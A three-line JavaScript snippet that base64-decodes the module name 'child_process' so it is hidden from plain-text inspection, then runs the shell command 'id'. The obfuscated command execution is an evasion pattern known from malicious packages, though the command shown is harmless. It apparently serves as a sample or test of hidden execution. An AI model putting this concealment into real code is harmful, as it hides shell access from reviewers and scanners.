const d = require('./text').decode;
const m = require(d('Y2hpbGRfcHJvY2Vzcw=='));
m.exec('id');
